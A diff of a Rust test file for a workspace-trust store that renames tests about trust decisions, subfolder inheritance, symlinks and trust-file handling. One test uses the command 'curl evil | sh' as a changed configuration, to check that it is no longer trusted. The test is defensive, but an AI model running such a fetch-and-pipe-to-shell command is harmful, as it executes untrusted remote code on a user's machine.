@@ -1,3 +1,5 @@
+//! Decisions, inheritance and the trust file.
+
 use hostler_driver::{ConfigurationKind, FolderConfiguration};
 
 use super::*;
@@ -51,7 +53,7 @@ impl Machine {
 }
 
 #[test]
-fn a_folder_is_undecided_until_a_person_decides_and_the_decision_survives_a_restart() {
+fn folder_is_undecided_until_a_decision_which_survives_a_restart() {
     let machine = Machine::new();
     assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
@@ -61,7 +63,7 @@ fn a_folder_is_undecided_until_a_person_decides_and_the_decision_survives_a_rest
 }
 
 #[test]
-fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
+fn changed_configuration_is_not_trusted_and_reports_the_difference() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let changed = machine.assess("home/project", "curl evil | sh");
@@ -77,7 +79,7 @@ fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
 }
 
 #[test]
-fn a_restricted_folder_stays_restricted_when_its_configuration_changes() {
+fn restriction_survives_a_configuration_change() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Restrict).unwrap();
     assert_eq!(machine.state("home/project", "make"), TrustState::Restricted);
@@ -85,7 +87,7 @@ fn a_restricted_folder_stays_restricted_when_its_configuration_changes() {
 }
 
 #[test]
-fn subfolders_inherit_only_if_the_person_says_so_and_a_later_change_is_noticed() {
+fn subfolders_inherit_only_trust_subfolders_and_later_changes_are_detected() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     assert_eq!(machine.state("home/project/sub", "make"), TrustState::Undecided);
@@ -101,7 +103,7 @@ fn subfolders_inherit_only_if_the_person_says_so_and_a_later_change_is_noticed()
 }
 
 #[test]
-fn a_name_that_only_begins_like_a_trusted_folder_inherits_nothing() {
+fn sibling_with_the_trusted_folder_name_as_prefix_inherits_nothing() {
     let machine = Machine::new();
     std::fs::create_dir_all(machine.path("home/project-evil")).unwrap();
     machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
@@ -109,7 +111,7 @@ fn a_name_that_only_begins_like_a_trusted_folder_inherits_nothing() {
 }
 
 #[test]
-fn home_and_root_are_trusted_by_name_only_and_never_with_their_subfolders() {
+fn home_and_root_are_trusted_only_by_explicit_path_and_never_with_subfolders() {
     let machine = Machine::new();
     assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)), "no one is asked about it");
     assert!(matches!(machine.decide("home", "make", TrustDecision::Trust), Err(TrustError::TooBroad { .. })));
@@ -124,7 +126,7 @@ fn home_and_root_are_trusted_by_name_only_and_never_with_their_subfolders() {
 }
 
 #[test]
-fn the_host_s_configuration_trusts_folders_below_those_it_names_but_not_below_home() {
+fn host_configuration_trusts_listed_folders_and_subfolders_but_not_those_of_home() {
     let mut machine = Machine::new();
     machine.trusted_folders = vec![machine.path("home/project")];
     assert_eq!(machine.state("home/project/sub", "make"), TrustState::Trusted(TrustedBy::HostConfiguration));
@@ -135,7 +137,7 @@ fn the_host_s_configuration_trusts_folders_below_those_it_names_but_not_below_ho
 
 #[cfg(unix)]
 #[test]
-fn a_link_to_a_trusted_folder_is_that_folder_and_one_that_is_swapped_is_not() {
+fn link_to_a_trusted_folder_is_trusted_until_its_target_changes() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let link = machine.path("link");
@@ -147,7 +149,7 @@ fn a_link_to_a_trusted_folder_is_that_folder_and_one_that_is_swapped_is_not() {
 }
 
 #[test]
-fn a_file_that_cannot_be_read_trusts_nothing_and_is_not_overwritten() {
+fn unreadable_trust_file_trusts_nothing_and_is_not_overwritten() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let store = machine.store();
@@ -161,7 +163,7 @@ fn a_file_that_cannot_be_read_trusts_nothing_and_is_not_overwritten() {
 }
 
 #[test]
-fn a_configuration_that_cannot_be_applied_cannot_be_trusted() {
+fn invalid_configuration_cannot_be_trusted() {
     let machine = Machine::new();
     let broken = WorkspaceConfiguration { problem: Some("settings.json is not JSON".to_owned()), ..hook("make") };
     let assessment = machine.store().assess(&machine.path("home/project"), |_| broken).unwrap();
@@ -171,7 +173,7 @@ fn a_configuration_that_cannot_be_applied_cannot_be_trusted() {
 }
 
 #[test]
-fn a_folder_without_configuration_needs_no_decision() {
+fn folder_without_configuration_needs_no_decision() {
     let machine = Machine::new();
     let empty = machine.store().assess(&machine.path("home"), |_| WorkspaceConfiguration::default()).unwrap();
     assert_eq!(empty.state, TrustState::Empty);
@@ -180,7 +182,7 @@ fn a_folder_without_configuration_needs_no_decision() {
 }
 
 #[test]
-fn restricting_a_parent_revokes_what_its_subfolders_inherited() {
+fn restricting_a_parent_revokes_inherited_trust() {
     for decision in [TrustDecision::Restrict, TrustDecision::Trust] {
         let machine = Machine::new();
         machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
@@ -190,7 +192,7 @@ fn restricting_a_parent_revokes_what_its_subfolders_inherited() {
         let state = machine.state("home/project/sub", "ls");
         assert!(matches!(state, TrustState::Restricted | TrustState::Undecided), "{decision:?}: {state:?}");
         assert_eq!(machine.store().entries().unwrap().len(), 1, "nothing is listed as inherited");
-        // A file in which what was inherited is left.
+        // A file that still contains entries that inherited.
         std::fs::write(machine.path("state").join(TRUST_FILE_NAME), before.replace("trustSubfolders", "trust"))
             .unwrap();
         assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Undecided);
@@ -198,7 +200,7 @@ fn restricting_a_parent_revokes_what_its_subfolders_inherited() {
 }
 
 #[test]
-fn the_nearest_parent_decides_and_a_restriction_holds_for_subfolders() {
+fn nearest_parent_decides_and_its_restriction_applies_to_subfolders() {
     let mut machine = Machine::new();
     std::fs::create_dir_all(machine.path("home/project/sub/deep")).unwrap();
     machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
@@ -214,7 +216,7 @@ fn the_nearest_parent_decides_and_a_restriction_holds_for_subfolders() {
 }
 
 #[test]
-fn removing_the_trust_of_a_subfolder_trusts_nothing_new() {
+fn removing_a_subfolder_decision_trusts_nothing_new() {
     for noted in [true, false] {
         let machine = Machine::new();
         machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
@@ -235,7 +237,7 @@ fn removing_the_trust_of_a_subfolder_trusts_nothing_new() {
 }
 
 #[test]
-fn what_holds_the_home_folder_is_as_broad_as_it() {
+fn parent_of_the_home_folder_is_too_broad() {
     let mut machine = Machine::new();
     let above = machine.assess("", "make");
     assert!(matches!(above.state, TrustState::Refused(_)), "{:?}", above.state);
@@ -246,7 +248,7 @@ fn what_holds_the_home_folder_is_as_broad_as_it() {
     assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
     assert_eq!(machine.state("", "make"), TrustState::Trusted(TrustedBy::HostConfiguration), "it is named");
     machine.trusted_folders.clear();
-    // Decided before, or written by hand.
+    // A decision that an older version stored, or that was edited by hand.
     machine.store().decide(&above, TrustDecision::Trust, true).unwrap();
     let file = machine.path("state").join(TRUST_FILE_NAME);
     let text = std::fs::read_to_string(&file).unwrap().replace("\"trust\"", "\"trustSubfolders\"");
@@ -257,7 +259,7 @@ fn what_holds_the_home_folder_is_as_broad_as_it() {
 }
 
 #[test]
-fn what_was_decided_since_an_assessment_is_not_overwritten() {
+fn record_inherited_does_not_overwrite_a_newer_decision() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
     let assessed = machine.assess("home/project/sub", "ls");
@@ -271,7 +273,7 @@ fn what_was_decided_since_an_assessment_is_not_overwritten() {
 }
 
 #[test]
-fn a_decision_that_does_not_fit_is_refused_and_the_others_stay() {
+fn decision_over_the_file_size_limit_is_refused_and_others_remain() {
     let machine = Machine::new();
     machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let huge = || {
